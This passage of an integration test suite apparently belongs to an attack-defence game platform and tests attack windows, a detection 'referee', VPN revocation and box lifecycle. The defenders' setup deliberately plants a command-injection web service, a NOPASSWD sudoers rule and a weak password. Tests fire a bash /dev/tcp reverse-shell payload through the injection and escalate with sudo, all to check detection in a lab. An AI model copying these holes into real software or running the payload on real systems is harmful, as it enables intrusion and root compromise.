          "require('node:net').createServer((s) => s.end('hi')).listen(Number(process.argv[1]), '0.0.0.0')",
          String(port),
        ],
        { stdio: 'ignore' },
      ),
    );
    try {
      for (const computer of [alice, bob])
        await until(
          'a listener on a player’s computer',
          () => tcpConnects(computer.clientAddress, port),
          10_000,
        );
      const targets = [session(users.alice)!.vpnAddress, session(users.bob)!.vpnAddress];
      // The owner's ssh session is the proof that the box still answers its owner.
      const fromAliceBox = async () =>
        (
          await asOwner(
            'for t in "$@"; do (timeout 2 bash -c "exec 3<>/dev/tcp/$t/' +
              port +
              '" 2>/dev/null && echo "$t open" || echo "$t closed") & done; wait',
            targets,
          )
        )
          .trim()
          .split('\n')
          .sort();
      expect(await fromAliceBox(), 'what Alice’s box reached without a window').to.deep.equal(
        targets.map((t) => `${t} closed`).sort(),
      );
      await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(Date.now() + 120_000));
      expect(await runtime!.router.listCallbacks()).to.include(targets[1]);
      // A probe of a loaded host may time out (an ssh session and a 2 s connect each): inside the window,
      // Bob's computer answers eventually.
      const inside = await until(
        'Alice’s box to reach Bob’s computer inside his window',
        async () => {
          const reached = await fromAliceBox();
          return reached.includes(`${targets[1]} open`) ? reached : null;
        },
        60_000,
        500,
      );
      expect(inside, 'what Alice’s box reached inside Bob’s window').to.deep.equal(
        [`${targets[0]} closed`, `${targets[1]} open`].sort(),
      );
      await runtime!.closeAttackWindow(users.bob, aliceBox.id);
      expect(await fromAliceBox(), 'what Alice’s box reached after the window').to.deep.equal(
        targets.map((t) => `${t} closed`).sort(),
      );
      expect(await alice.canConnect(ip(aliceBox), 22), 'Alice reaches her box').to.equal(true);
    } finally {
      for (const l of listeners) l.kill('SIGKILL');
    }
  });

  it('opens an attack window to the target box and closes it again', async () => {
    await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(Date.now() + 60_000));
    expect(await bob.canConnect(ip(aliceBox), 22), 'Bob inside the window').to.equal(true);
    const out = await bob.ssh(ip(aliceBox), 'echo "$SSH_CONNECTION"', { password: aliceBox.rootPassword });
    expect(out.trim().split(' ')[0], 'source address the box sees').to.equal(session(users.bob)!.vpnAddress);
    // Only the target: Alice still cannot reach Bob's box.
    expect(await alice.canConnect(ip(bobBox), 22)).to.equal(false);

    await runtime!.closeAttackWindow(users.bob, aliceBox.id);
    expect(await bob.canConnect(ip(aliceBox), 22), 'Bob after the window closed').to.equal(false);
    expect(await alice.canConnect(ip(aliceBox), 22), 'Alice after the window closed').to.equal(true);
  });

  it('closes an attack window by itself at its end (nft element timeout)', async () => {
    const end = Date.now() + 3000;
    await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(end));
    expect(await runtime!.router.listAccess()).to.match(/timeout \d+s/);
    expect(await bob.canConnect(ip(aliceBox), 22, 1), 'Bob inside the short window').to.equal(true);
    await until('the window to expire', async () => !(await bob.canConnect(ip(aliceBox), 22, 1)), 10_000);
    expect(Date.now(), 'closed before its end').to.be.at.least(end - 1500);
    expect(await alice.canConnect(ip(aliceBox), 22), 'Alice after the window expired').to.equal(true);
  });

  /**
   * The referee (docs/detection.md) watches Alice's box from the host while Bob attacks it. Each
   * trick a player would try is a case; verdicts land in a recording sink.
   */
  // ---- the referee ----
  let referee: HostReferee | undefined;
  const verdicts: { attackId: string; kind: string; detail: string }[] = [];
  const sink: VerdictSink = {
    running: async () => [],
    recordCommands: async (attackId, commands) =>
      commands.map((c) => {
        verdicts.push({ attackId, kind: `COMMAND uid=${c.uid} ${c.user} ${c.cwd}`, detail: c.command });
        return true;
      }),
    recordFoothold: async (attackId, message) => {
      verdicts.push({ attackId, kind: 'FOOTHOLD', detail: message });
      return true;
    },
    recordEviction: async (attackId, message) => {
      // As the attack service does: an eviction only after a foothold.
      if (of(attackId).some((v) => v.kind === 'FOOTHOLD'))
        verdicts.push({ attackId, kind: 'EVICTED', detail: message });
    },
    recordOwn: async (attackId, message) => {
      verdicts.push({ attackId, kind: 'OWN', detail: message });
      return true;
    },
  };
  const of = (attackId: string) => verdicts.filter((v) => v.attackId === attackId);
  const asOwner = (script: string, params: string[] = []) =>
    alice.ssh(ip(aliceBox), script, { password: aliceBox.rootPassword }, params);
  const DEV_PASSWORD = 'hunter2-dev';

  /** A new attack by Bob on Alice's box: its window and the referee's watch. */
  /** The attacks the referee watches, as it was told of them (to tell a restarted referee again). */
  const watched = new Map<string, Attack>();
  async function attack(): Promise<string> {
    const referee = await refereeReady();
    const id = randomUUID();
    await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(Date.now() + 120_000));
    const running: Attack = {
      id,
      attacker: { id: users.bob, handle: 'bob' },
      target: { id: users.alice, handle: 'alice' },
      box: {
        id: aliceBox.id,
        hostname: aliceBox.hostname,
        ip: ip(aliceBox),
        status: 'RUNNING',
        openPorts: {},
      },
      outcome: 'PENDING',
      winnerId: null,
      loserId: null,
      mmrChange: null,
      rated: true,
      services: [],
      servicesUp: true,
      createdAt: new Date().toISOString(),
      endsAt: new Date(Date.now() + 120_000).toISOString(),
      endedAt: null,
    };
    watched.set(id, running);
    await referee.watch(running);
    return id;
  }
  async function end(id: string): Promise<void> {
    await referee!.settled();
    referee!.unwatch(id);
    await runtime!.closeAttackWindow(users.bob, aliceBox.id);
  }
  /** What the referee made of everything so far, once the tracer's lines are read and judged. */
  async function judged(id: string) {
    await sleep(300);
    await referee!.settled();
    return of(id);
  }

  /** Bob logs in to Alice's box as dev (on `port`) and runs `id` in /tmp; answers the address sshd saw. */
  async function devLogin(port?: number): Promise<string> {
    const out = await bob.ssh(ip(aliceBox), 'cd /tmp && id >/dev/null; echo "$SSH_CONNECTION"', {
      password: DEV_PASSWORD,
      user: 'dev',
      ...(port ? { port } : {}),
    });
    return out.split(' ')[0]!;
  }
  /** The referee saw dev's shell as Bob's FOOTHOLD and its `id` in the kill chain. */
  async function expectDevShell(id: string) {
    const seen = await judged(id);
    expect(seen.find((v) => v.kind === 'FOOTHOLD')?.detail).to.match(/^User shell as dev: /);
    expect(seen.some((v) => v.kind === 'COMMAND uid=1000 dev /tmp' && v.detail === 'id')).to.equal(true);
    return seen;
  }

  /** The referee and the defender's services, made once for the referee's cases. */
  async function refereeReady(): Promise<HostReferee> {
    if (referee) return referee;
    referee = runtime!.referee(sink);
    await referee.start();
    // The defender's services: a user with a weak password, a root service that forks for each
    // connection (no new program), a long-lived root web server, and a page with a command
    // injection run as www-data (with a careless sudo rule).
    const forking = `use IO::Socket::INET; $SIG{CHLD}='IGNORE';
      my $s = IO::Socket::INET->new(LocalPort => 9000, Listen => 5, ReuseAddr => 1) or die;
      while (my $c = $s->accept) { if (!fork) { print $c "hello\\n"; sleep 2; exit 0 } close $c }`;
    const web = `require('http').createServer((req, res) => res.end('ok\\n')).listen(9001);`;
    await asOwner(
      [
        'id dev >/dev/null 2>&1 || useradd -m -s /bin/bash dev',
        `echo "dev:${DEV_PASSWORD}" | chpasswd`,
        'systemd-run --quiet --unit=forking /usr/bin/perl -e "$1"',
        'systemd-run --quiet --unit=web /usr/bin/node -e "$2"',
        'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops',
        'for p in 9000 9001; do for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && continue 2; sleep 0.1; done; echo "port $p never opened" >&2; exit 1; done',
      ].join('\n'),
      [forking, web],
    );
    await startPingService();
    return referee;
  }

  /** The defender's page with a command injection on port 8080, run as www-data (started again when stopped). */
  async function startPingService(): Promise<void> {
    const injection = `require('http').createServer((req, res) => {
      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
      res.end('pinged\\n');
    }).listen(8080);`;
    await asOwner(
      [
        'systemctl stop pingsvc 2>/dev/null; systemctl reset-failed pingsvc 2>/dev/null',
        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
        'for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && exit 0; sleep 0.1; done; echo "port 8080 never opened" >&2; exit 1',
      ].join('\n'),
      [injection],
    );
  }

  it('sees nobody’s shell in a bare connection to sshd, to a forking root service or in a request to a root web server', async () => {
    const id = await attack();
    await Promise.all([
      bob.holdConnection(ip(aliceBox), 22, 1500),
      bob.holdConnection(ip(aliceBox), 9000, 1500),
      bob.httpGet(`http://${ip(aliceBox)}:9001/`),
    ]);
    // The owner works on their own box meanwhile, as root.
    await asOwner('cd /root && id >/dev/null && ls >/dev/null');
    expect(await judged(id)).to.deep.equal([]);
    await end(id);
  });

  it('checks the target’s services as its attacker, and never takes what a check makes a service run for the attacker’s', async () => {
    const id = await attack();
    try {
      await checkAsAttacker(id);
    } finally {
      await asOwner(
        'systemctl stop echo-peer slowsvc 2>/dev/null; nft delete table inet keepout 2>/dev/null; true',
      );
      await end(id);
    }
    // No window, no checks as the attacker.
    expect(runtime!.serviceProbe(users.bob, aliceBox.id)).to.equal(null);
  });

  async function checkAsAttacker(id: string): Promise<void> {
    // A service that tells each client the address it sees; a client that left at once (the readiness loop
    // below) must not take it down.
    const echo = `require('net').createServer((c) => { c.on('error', () => {}); c.end(String(c.remoteAddress).replace(/^::ffff:/, '') + ' ' + c.remotePort + '\\n'); }).listen(9002);`;
    await asOwner(
      [
        'systemctl stop echo-peer 2>/dev/null; systemctl reset-failed echo-peer 2>/dev/null',
        'systemd-run --quiet --unit=echo-peer /usr/bin/node -e "$1"',
        'for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/9002) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
      ].join('\n'),
      [echo],
    );
    const probe = runtime!.serviceProbe(users.bob, aliceBox.id)!;
    expect(probe).to.include({ address: ip(aliceBox), speakingAs: session(users.bob)!.vpnAddress });
    const seen = await probe.transports.tcp(probe.address, 9002, {
      send: '',
      contains: '\n',
      timeoutMs: 5000,
    });
    const [address, port] = seen.trim().split(' ');
    expect(address, 'the address the box sees').to.equal(session(users.bob)!.vpnAddress);
    expect(Number(port)).to.be.within(PROBE_PORTS.first, PROBE_PORTS.last);

    // The ping page runs a program for each request: the check's is nobody's, the attacker's own is theirs.
    const ping: ServiceCheck = {
      type: 'http',
      port: 8080,
      path: '/ping?host=127.0.0.1',
      method: 'GET',
      status: 200,
      contains: 'pinged',
    };
    expect(await runCheck(ping, probe.address, probe.transports)).to.deep.equal({
      ok: true,
      detail: 'port 8080: answered as it should',
    });
    expect((await runCheck(BOX_SSH_CHECK, probe.address, probe.transports)).ok, 'sshd').to.equal(true);
    expect(await judged(id), 'after the checks').to.deep.equal([]);
    await bob.httpGet(`http://${ip(aliceBox)}:8080/ping?host=127.0.0.2`);
    await until('the attacker’s own request judged', async () =>
      (await judged(id)).some((v) => v.detail.includes('ping -c 1 127.0.0.2')),
    );

    // A page that runs a program and answers when it ends, holding the connection meanwhile (as a Flask
    // app's subprocess.run does): the referee judges it while the check's connection is open.
    const slow = `require('http').createServer((req, res) => {
      const tag = new URL(req.url, 'http://box').searchParams.get('tag') || 'none';
      require('child_process').execFile('/bin/sh', ['-c', 'sleep 1; echo ran-' + tag], (err, out) => res.end(String(out)));
    }).listen(9003);`;
    await asOwner(
      [
        'systemctl stop slowsvc 2>/dev/null; systemctl reset-failed slowsvc 2>/dev/null',
        'systemd-run --quiet --unit=slowsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
        'for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/9003) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
      ].join('\n'),
      [slow],
    );
    const held: ServiceCheck = {
      type: 'http',
      port: 9003,
      path: '/run?tag=check',
      method: 'GET',
      status: 200,
      contains: 'ran-check',
    };
    // A round: every service at once, as the platform checks them.
    const round = await Promise.all(
      [held, BOX_SSH_CHECK, ping].map((check) => runCheck(check, probe.address, probe.transports)),
    );
    expect(
      round.map((r) => r.ok),
      'a round of checks at once',
    ).to.deep.equal([true, true, true]);
    expect(
      (await judged(id)).filter((v) => v.detail.includes('ran-check') || v.detail.includes('127.0.0.1')),
      'after a check that held its connection while a program ran',
    ).to.deep.equal([]);
    await bob.httpGet(`http://${ip(aliceBox)}:9003/run?tag=mine`);
    await until('the attacker’s own slow request judged', async () =>
      (await judged(id)).some((v) => v.detail.includes('echo ran-mine')),
    );

    // A defender who refuses the attacker refuses the checks: they come from the same address.
    await asOwner(
      `nft add table inet keepout && nft add chain inet keepout in '{ type filter hook input priority 0; }' && nft add rule inet keepout in ip saddr ${session(users.bob)!.vpnAddress} drop`,
    );
    const refused = await runCheck(ping, probe.address, probe.transports, 1500);
    expect(refused.ok).to.equal(false);
    expect(refused.detail).to.match(/^port 8080: no answer/);
  }

  it('counts a user’s ssh shell as a FOOTHOLD, su waiting at its prompt as nothing more, su with the password as OWNED', async () => {
    const id = await attack();
    await bob.ssh(
      ip(aliceBox),
      'cd /tmp && id >/dev/null; timeout 2 script -qc "su root -c id" /dev/null < <(sleep 3) >/dev/null; true',
      { password: DEV_PASSWORD, user: 'dev' },
    );
    let seen = await judged(id);
    expect(seen.map((v) => v.kind))
      .to.include('FOOTHOLD')
      .and.not.include('OWN');
    expect(seen.find((v) => v.kind === 'FOOTHOLD')!.detail).to.match(/^User shell as dev: /);
    expect(seen.some((v) => v.kind === 'COMMAND uid=1000 dev /tmp' && v.detail === 'id')).to.equal(true);
    expect(seen.some((v) => v.detail.startsWith('su root'))).to.equal(true);

    await bob.ssh(
      ip(aliceBox),
      `(sleep 1; echo "$1") | script -qc "su root -c 'id; sleep 1'" /dev/null >/dev/null; true`,
      { password: DEV_PASSWORD, user: 'dev' },
      [aliceBox.rootPassword],
    );
    seen = await judged(id);
    const own = seen.filter((v) => v.kind === 'OWN');
    expect(own.length).to.be.at.least(1);
    expect(seen.some((v) => v.kind.startsWith('COMMAND uid=0 root') && v.detail === 'id')).to.equal(true);
    await end(id);
  });

  it('sees through a NAT of the defender’s own that renames the attacker’s address at the box’s door', async () => {
    const id = await attack();
    let second: string | null = null;
    // Box root has every connection from Bob's address arrive from another one (snat at input).
    await asOwner(
      [
        'nft add table ip hide',
        "nft add chain ip hide in '{ type nat hook input priority 100; }'",
        'nft add rule ip hide in ip saddr "$1" snat to 10.200.1.250',
      ].join(' && '),
      [session(users.bob)!.vpnAddress],
    );
    try {
      expect(await devLogin(), 'the address sshd saw').to.equal('10.200.1.250');
      await expectDevShell(id);
      await end(id);
      // Renamed to the owner's own address, a player's too: still Bob's.
      second = await attack();
      await asOwner(
        ['nft flush chain ip hide in', 'nft add rule ip hide in ip saddr "$1" snat to "$2"'].join(' && '),
        [session(users.bob)!.vpnAddress, session(users.alice)!.vpnAddress],
      );
      expect(await devLogin(), 'the address sshd saw').to.equal(session(users.alice)!.vpnAddress);
      await expectDevShell(second);
    } finally {
      await asOwner('nft delete table ip hide');
      await end(second ?? id);
    }
  });

  it('does not give the attacker the other clients of a server they only hold a connection to', async () => {
    const id = await attack();
    // A datastore of one process (run by root), and a root job of the defender's that uses it.
    const store = `require('net').createServer((c) => { c.on('error', () => undefined); c.resume(); }).listen(6379);`;
    await asOwner(
      [
        'systemd-run --quiet --unit=store /usr/bin/node -e "$1"',
        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/6379) 2>/dev/null && break; sleep 0.1; done',
      ].join('\n'),
      [store],
    );
    try {
      const idle = bob.holdConnection(ip(aliceBox), 6379, 4000);
      await sleep(500);
      await asOwner(
        "systemd-run --quiet --unit=storejob /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/6379; sleep 0.3; /usr/bin/id >/dev/null; sleep 0.5'",
      );
      await sleep(1500);
      const seen = await judged(id);
      expect(seen.map((v) => v.kind))
        .to.not.include('OWN')
        .and.not.include('FOOTHOLD');
      await idle;
    } finally {
      await asOwner('systemctl stop store storejob 2>/dev/null; true');
      await end(id);
    }
  });

  it('follows a proxy in front of sshd to the player behind it, when it serves that player alone', async () => {
    const id = await attack();
    // The defender puts a TCP proxy on port 2222 in front of sshd (its upstream on loopback).
    const proxy = `const net = require('net');
      net.createServer((c) => { const u = net.connect(22, '127.0.0.1'); c.pipe(u).pipe(c);
        c.on('error', () => u.destroy()); u.on('error', () => c.destroy()); }).listen(2222);`;
    await asOwner(
      [
        'systemd-run --quiet --unit=sshproxy /usr/bin/node -e "$1"',
        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/2222) 2>/dev/null && break; sleep 0.1; done',
      ].join('\n'),
      [proxy],
    );
    let second: string | null = null;
    try {
      expect(await devLogin(2222), 'the address sshd saw').to.equal('127.0.0.1');
      let seen = await expectDevShell(id);
      await end(id);
      // While the owner holds a connection through it too, the proxy could carry either's
      // login: nobody's (docs/detection.md, limits).
      second = await attack();
      const owners = alice.holdConnection(ip(aliceBox), 2222, 4000);
      await sleep(500);
      await bob.ssh(ip(aliceBox), 'cd /tmp && id >/dev/null', {
        password: DEV_PASSWORD,
        user: 'dev',
        port: 2222,
      });
      seen = await judged(second);
      expect(seen.map((v) => v.kind)).to.not.include('FOOTHOLD');
      await owners;
    } finally {
      await end(second ?? id);
      await asOwner('systemctl stop sshproxy; true');
    }
  });

  it('holds a reverse shell as a FOOTHOLD though the defender stops every daemon, until the defender kills it; sudo is OWNED', async () => {
    const id = await attack();
    const listen = async (port: number) => {
      const shell = await bob.listenForShell(port);
      const payload = `;bash -c 'bash -i >& /dev/tcp/${session(users.bob)!.vpnAddress}/${port} 0>&1'`;
      await bob.httpGet(`http://${ip(aliceBox)}:8080/?host=${encodeURIComponent(payload)}`);
      await shell.connected;
      return shell;
    };
    const shell = await listen(4444);
    expect(await shell.run('id')).to.include('uid=33(www-data)');
    let seen = await judged(id);
    expect(seen.map((v) => `${v.kind} ${v.detail}`).join('\n')).to.include('FOOTHOLD');
    expect(seen.find((v) => v.kind === 'FOOTHOLD')!.detail).to.match(/^User shell as www-data: /);
    expect(seen.some((v) => v.kind.startsWith('COMMAND uid=33 www-data') && v.detail === 'id')).to.equal(
      true,
    );

    // The defender stops everything that looks like it could be watching, and firewalls nothing.
    await asOwner(
      "systemctl stop systemd-journald systemd-journald.socket 2>/dev/null; pkill -f '[a]gent'; true",
    );
    await sleep(1200);
    seen = await judged(id);
    expect(seen.map((v) => v.kind)).to.not.include('EVICTED');

    await asOwner('pkill -KILL -u www-data; true');
    await shell.closed;
    await until('the eviction', async () => (await judged(id)).at(-1)!.kind === 'EVICTED', 5000).catch(
      async () => expect.fail(JSON.stringify(await judged(id), null, 1)),
    );
    await startPingService();

    const again = await listen(4445);
    await again.run('sudo -n id');
    seen = await judged(id);
    expect(seen.filter((v) => v.kind === 'OWN')).to.have.length.at.least(1);
    expect(seen.find((v) => v.kind === 'OWN')!.detail).to.match(/^Root shell: id/);
    again.close();
    await end(id);
    await asOwner(
      'systemctl start systemd-journald.socket systemd-journald; systemctl stop pingsvc forking web; rm -f /etc/sudoers.d/ops',
    );
  });

  it('keeps a program the attacker left behind across a referee restart, until the defender kills it', async () => {
    await startPingService();
    const id = await attack();
    const shell = await bob.listenForShell(4446);
    try {
      const payload = `;bash -c 'bash -i >& /dev/tcp/${session(users.bob)!.vpnAddress}/4446 0>&1'`;
      await bob.httpGet(`http://${ip(aliceBox)}:8080/?host=${encodeURIComponent(payload)}`);
      await shell.connected;
      await shell.run('(nohup sleep 300 >/dev/null 2>&1 &)');
      // The attacker leaves: the shell ends, the box closes the connection.
      shell.send('exit');
      await shell.closed;
      let seen = await judged(id);
      expect(seen.map((v) => v.kind))
        .to.include('FOOTHOLD')
        .and.not.include('EVICTED');
      // The API restarts: a new referee reads the trace again (the shell that ran sleep is gone).
      await referee!.close();
      referee = runtime!.referee(sink);
      await referee.start();
      await referee.watch(watched.get(id)!);
      await sleep(1200);
      seen = await judged(id);
      expect(
        seen.map((v) => v.kind),
        'verdicts after the restart',
      ).to.not.include('EVICTED');
      await asOwner('pkill -f "^sleep 300"; true');
      await until('the eviction', async () => (await judged(id)).at(-1)!.kind === 'EVICTED', 5000);
    } finally {
      shell.close();
      await asOwner('pkill -f "^sleep 300"; systemctl stop pingsvc; true');
      await end(id);
    }
  });

  it('adopts running boxes and VPN sessions after an API restart', async function () {
    this.timeout(90_000);
    const aliceNspawn = await nspawnMain(boxDir(aliceBox));
    const bobNspawn = await nspawnMain(boxDir(bobBox));
    const aliceSession = session(users.alice)!;
    const restartedAt = Date.now();
    await runtime!.close();

    runtime = newRuntime();
    await runtime.start();
    expect(runtime.status().reason).to.equal(null);
    // Learned again from the management interface before anything else happened.
    expect(session(users.alice), 'Alice’s session after the restart').to.deep.include({
      protocol: 'UDP',
      vpnAddress: aliceSession.vpnAddress,
    });
    // Adopted, not a new connection: OpenVPN's own record of it is older than the restart (its clock
    // starts at the TLS handshake, before the API heard of the session: on a loaded host seconds apart).
    expect(session(users.alice)!.connectedAt.getTime()).to.be.below(restartedAt);
    expect(session(users.alice)!.connectedAt.getTime()).to.be.closeTo(
      aliceSession.connectedAt.getTime(),
      10_000,
    );

    const [a, b] = await Promise.all([runtime.applyBox(aliceBox), runtime.applyBox(bobBox)]);
    expect(a.phase).to.equal('RUNNING');
    expect(b.phase).to.equal('RUNNING');
    expect(a.openPorts).to.deep.include({ '22': 'ssh' });
    expect(await nspawnMain(boxDir(aliceBox)), 'Alice’s box was restarted').to.equal(aliceNspawn);
    expect(await nspawnMain(boxDir(bobBox)), 'Bob’s box was restarted').to.equal(bobNspawn);

    // The owners reach their boxes again (the VPN ingress is in the kernel: the API restart did not touch it).
    const out = await until(
      'Alice’s ssh after the restart',
      () =>
        alice
          .ssh(ip(aliceBox), 'echo "$SSH_CONNECTION"', { password: aliceBox.rootPassword })
          .catch(() => undefined),
      20_000,
      500,
    );
    expect(out.split(' ')[0]).to.equal(aliceSession.vpnAddress);
    await until('Bob’s TCP session back', async () => session(users.bob), 45_000, 250);
    await until('Bob reaches his box', () => bob.canConnect(ip(bobBox), 22), 10_000, 250);
    expect(await bob.canConnect(ip(aliceBox), 22), 'Bob reached Alice’s box after the restart').to.equal(
      false,
    );
  });

  it('revocation cuts a live session at once and refuses the reconnect', async () => {
    expect(session(users.bob), 'Bob connected before the revocation').to.not.equal(undefined);
    refused.add(users.bob);
    const before = disconnected.length;
    const cut = Date.now();
    await runtime!.setRevoked([
      { userId: users.bob, serialNumber: identities.bob!.serialNumber, revokedAt: new Date() },
    ]);
    await until('Bob’s session to end', async () => session(users.bob) === undefined, 5000, 100);
    expect(Date.now() - cut).to.be.below(5000);
    expect(disconnected.slice(before).map((s) => s.userId)).to.include(users.bob);
    // His client hears it (the server tells it to halt) and stops.
    const code = await Promise.race([bobVpn.exited, sleep(10_000).then(() => 'still running')]);
    expect(code, `Bob's openvpn after the kill:\n${bobVpn.log.slice(-2000)}`).to.not.equal('still running');
    expect(await bob.canConnect(ip(bobBox), 22, 1)).to.equal(false);

    // A reconnect is refused: the server's CRL check rejects his certificate.
    const serverLogFile = path.join(dataDir, 'vpn/tcp/openvpn.log');
    const logStart = (await readFile(serverLogFile, 'utf8')).length;
    const retry = new VpnClient(bob.name, configs.bob);
    await until(
      'the server to refuse the revoked certificate',
      async () => {
        expect(retry.log, 'Bob reconnected after the revocation').to.not.include(
          'Initialization Sequence Completed',
        );
        expect(session(users.bob)).to.equal(undefined);
        const fresh = (await readFile(serverLogFile, 'utf8')).slice(logStart);
        return /VERIFY ERROR.*revoked|CRL.*revoked|certificate revoked/i.test(fresh);
      },
      15_000,
      250,
    );
    await sleep(500);
    expect(retry.log, 'Bob reconnected after the revocation').to.not.include(
      'Initialization Sequence Completed',
    );
    expect(session(users.bob)).to.equal(undefined);
    await retry.stop();
    expect(runtime!.poolUsage().TCP.clients).to.equal(0);
  });

  it('reports a killed box as CRASHED until it is powered off, then starts it again', async function () {
    this.timeout(60_000);
    const nspawn = await nspawnMain(boxDir(bobBox));
    process.kill(nspawn, 'SIGKILL');
    const crashed = await waitPhase(bobBox, 'CRASHED', ['RUNNING', 'PROVISIONING'], 15_000);
    expect(crashed.reason).to.match(/stopped unexpectedly/);
    // It stays CRASHED while power is still on: the runtime does not restart it by itself.
    expect((await runtime!.applyBox(bobBox)).phase).to.equal('CRASHED');
    expect(await nspawnPids(boxDir(bobBox))).to.deep.equal([]);

    const stopped = await runtime!.applyBox({ ...bobBox, power: false });
    expect(stopped.phase).to.equal('STOPPED');
    expect(await processesIn(bobBox), 'processes of the crashed box after power off').to.deep.equal([]);
    expect(await mountsUnder(boxDir(bobBox))).to.deep.equal([]);

    expect((await runtime!.applyBox(bobBox)).phase).to.equal('PROVISIONING');
    await waitPhase(bobBox, 'RUNNING', ['PROVISIONING'], 40_000);
    expect((await waitSshd(bobBox)).openPorts).to.deep.include({ '22': 'ssh' });
  });

  it('brings a box rebooted from inside back by itself', async function () {
    this.timeout(60_000);
    const before = await nspawnMain(boxDir(aliceBox));
    await alice
      .ssh(ip(aliceBox), 'systemctl reboot', { password: aliceBox.rootPassword })
      .catch(() => undefined /* the connection may end with the box */);
    await until('a new systemd-nspawn', async () => {
      const now = await nspawnMain(boxDir(aliceBox)).catch(() => null);
      return now !== null && now !== before;
    });
    await waitPhase(aliceBox, 'RUNNING', ['RUNNING', 'PROVISIONING'], 40_000);
    expect((await waitSshd(aliceBox)).openPorts).to.deep.include({ '22': 'ssh' });
    const out = await until(
      'ssh after the reboot',
      () =>
        alice
          .ssh(ip(aliceBox), 'cat /root/marker', { password: aliceBox.rootPassword })
          .catch(() => undefined),
      15_000,
      500,
    );
    expect(out.trim()).to.equal('kept');
  });

  it('reports a poweroff from inside as STOPPED, powered off inside', async () => {
    await alice
      .ssh(ip(aliceBox), 'systemctl poweroff', { password: aliceBox.rootPassword })
      .catch(() => undefined /* the connection may end with the box */);
    const stopped = await waitPhase(aliceBox, 'STOPPED', ['RUNNING', 'PROVISIONING'], 30_000);
    expect(stopped.poweredOffInside).to.equal(true);
    expect(stopped.reason).to.match(/powered off from inside/);
    expect(await nspawnPids(boxDir(aliceBox))).to.deep.equal([]);
    // The API then turns the power off: a plain STOPPED, everything released.
    const off = await runtime!.applyBox({ ...aliceBox, power: false });
    expect(off.phase).to.equal('STOPPED');
    expect(off.poweredOffInside).to.not.equal(true);
    expect(await mountsUnder(boxDir(aliceBox))).to.deep.equal([]);
    expect(await processesIn(aliceBox)).to.deep.equal([]);
  });

  it('stops a running box completely and keeps its disk for the next start', async function () {
    this.timeout(90_000);
    const hostTrap = path.join(tmp!, 'written-through-a-box-symlink');
    expect((await runtime!.applyBox(aliceBox)).phase).to.equal('PROVISIONING');
    await waitPhase(aliceBox, 'RUNNING', ['PROVISIONING'], 40_000);
    const out = await until(
      'ssh after the start',
      () =>
        alice
          .ssh(
            ip(aliceBox),
            // Box root points the platform's directory at a host path: it must not write there.
            `cat /root/marker; echo again > /root/marker2; rm -rf /etc/exploit-grid; ln -s ${hostTrap} /etc/exploit-grid; sync`,
            { password: aliceBox.rootPassword },
          )
          .catch(() => undefined),
      10_000,
      500,
    );
    expect(out.trim(), 'a file written before the poweroff').to.equal('kept');

    const stopping = Date.now();
    const stopped = await runtime!.applyBox({ ...aliceBox, power: false });
    const took = Date.now() - stopping;
    expect(stopped.phase).to.equal('STOPPED');
    expect(took, 'a clean stop, not the kill after the timeout').to.be.below(options.stopTimeoutMs);
    expect(await nspawnPids(boxDir(aliceBox))).to.deep.equal([]);
    expect(await processesIn(aliceBox)).to.deep.equal([]);
    expect(await mountsUnder(boxDir(aliceBox)), 'the overlay and disk after the stop').to.deep.equal([]);
    await until(
      'the box port to leave the bridge',
      async () => !(await routerHasLink(`vb-${machineName(aliceBox)}`)),
      5000,
    );
    expect(await alice.canConnect(ip(aliceBox), 22, 1)).to.equal(false);
    // Still stopped on the next pass.
    expect((await runtime!.applyBox({ ...aliceBox, power: false })).phase).to.equal('STOPPED');

    expect((await runtime!.applyBox(aliceBox)).phase).to.equal('PROVISIONING');
    await waitPhase(aliceBox, 'RUNNING', ['PROVISIONING'], 40_000);
    const again = await until(
      'ssh after the restart',
      () =>
        alice
          .ssh(ip(aliceBox), 'cat /root/marker /root/marker2; hostname; stat -c %F /etc/exploit-grid', {
            password: aliceBox.rootPassword,
          })
          .catch(() => undefined),
      10_000,
      500,
    );
    expect(again.trim().split('\n')).to.deep.equal(['kept', 'again', 'alice-box', 'directory']);
    // Its new bridge port is isolated again: Bob's box is out of its reach.
    const probe = await alice.ssh(
      ip(aliceBox),
      'timeout 2 bash -c "exec 3<>/dev/tcp/$1/22" 2>/dev/null && echo open || echo closed',
      { password: aliceBox.rootPassword },
      [ip(bobBox)],
    );
    expect(probe.trim(), 'Bob’s box from Alice’s after its restart').to.equal('closed');
    expect(existsSync(hostTrap), 'the host path the box pointed at').to.equal(false);
  });

  it('snapshots a running box and restores it over a wiped disk: files, owners, deletions and capabilities', async function () {
    this.timeout(120_000);
    const asAlice = (script: string) => alice.ssh(ip(aliceBox), script, { password: aliceBox.rootPassword });
    // What a defender's hardening looks like on disk: a file of a user's, a file of the image deleted,
    // a capability set on a program, a directory of the image renamed.
    await asAlice(
      [
        'id hardener >/dev/null 2>&1 || useradd -m hardener',
        'echo hardened > /home/hardener/note && chown hardener /home/hardener/note && chmod 600 /home/hardener/note',
        'rm -f /etc/motd',
        'cp /usr/bin/true /usr/local/bin/capped && setcap cap_net_bind_service+ep /usr/local/bin/capped',
        'mv /etc/skel /etc/skel-moved',
        'sync',
      ].join(' && '),
    );
    const hostKey = (await asAlice('cat /etc/ssh/ssh_host_ed25519_key.pub')).trim();
    const snapshotId = randomUUID();
